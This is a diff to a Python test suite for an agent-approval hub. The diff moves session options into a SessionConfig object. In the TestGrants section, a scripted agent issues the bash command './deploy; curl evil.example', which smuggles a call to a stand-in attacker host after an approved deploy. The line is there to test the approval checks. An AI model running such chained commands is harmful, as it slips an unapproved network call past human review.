@@ -27,6 +27,7 @@ from interlock.engine.history.model.events import (
 )
 from interlock.engine.history.model.state import ApprovalState
 from interlock.engine.hub.hub import ApprovalPolicy, Hub
+from interlock.engine.sessions.config import SessionConfig
 from interlock.rules import compile_rules
 from tests.support.clock import Clock
 
@@ -61,7 +62,7 @@ async def opened_by(hub: Hub, shop: Shop, by: str, rules: str = TWO) -> tuple[st
     """A session that somebody started, whose deploy waits."""
     events = hub.subscribe()
     agent = Agent(ScriptedModel([C(deploy={}), T("done")]), name="bot", tools=shop.tools())
-    session = await hub.open_session(agent, registry=compile_rules(rules).registry, by=by)
+    session = await hub.open_session(agent, SessionConfig(compile_rules(rules).registry, by=by))
     await hub.send(session, "go", by=by)
     await until(events, ApprovalRequested)
     [request] = await hub.approvals()
@@ -359,7 +360,7 @@ class TestEdit:
         hub = Hub.open(tmp_path / "second.db")
         agent = Agent(ScriptedModel([T("done")]), name="bot", tools=shop.tools())
         asking = hub.subscribe()
-        await hub.resume_session(session, agent, registry=compile_rules(rules).registry, by="zoe")
+        await hub.resume_session(session, agent, SessionConfig(compile_rules(rules).registry, by="zoe"))
         await until(asking, ApprovalRequested)
         [request] = await hub.approvals()
         assert (request.input, request.original) == ({"env": "staging"}, {"env": "prod"})
@@ -617,7 +618,7 @@ class TestGrants:
         more, plain = "./deploy; curl evil.example", "./deploy prod"
         calls = [C(bash={"command": text}) for text in (more, plain, "./deploy stage", more)]
         agent = Agent(ScriptedModel([*calls, T("done")]), name="bot", tools=[bash])
-        session = await hub.open_session(agent, registry=compile_rules(rules).registry)
+        session = await hub.open_session(agent, SessionConfig(compile_rules(rules).registry))
         await hub.send(session, "go", by="mia")
         await until(events, ApprovalRequested)
         [request] = await hub.approvals()
@@ -654,7 +655,7 @@ class TestGrants:
         await hub.wait(session)
         await hub.close_session(session, by="ada")
         agent = Agent(ScriptedModel(list(replies[2:])), name="bot", tools=shop.tools())
-        await hub.resume_session(session, agent, registry=compile_rules(ASK).registry, by="ada")
+        await hub.resume_session(session, agent, SessionConfig(compile_rules(ASK).registry, by="ada"))
         await check(hub, session)
         await hub.send(session, "again", by="ada")
         await hub.wait(session)
@@ -676,7 +677,7 @@ class TestGrants:
         events = hub.subscribe()
         agent = Agent(ScriptedModel([C(deploy={}), T("done")]), name="bot", tools=shop.tools())
         stricter = compile_rules(f"{ASK} risk high").registry
-        await hub.resume_session(session, agent, registry=stricter, by="ada")
+        await hub.resume_session(session, agent, SessionConfig(stricter, by="ada"))
         await hub.send(session, "again", by="ada")
         await until(events, ApprovalRequested)
         assert shop.ran == ["deploy staging"]
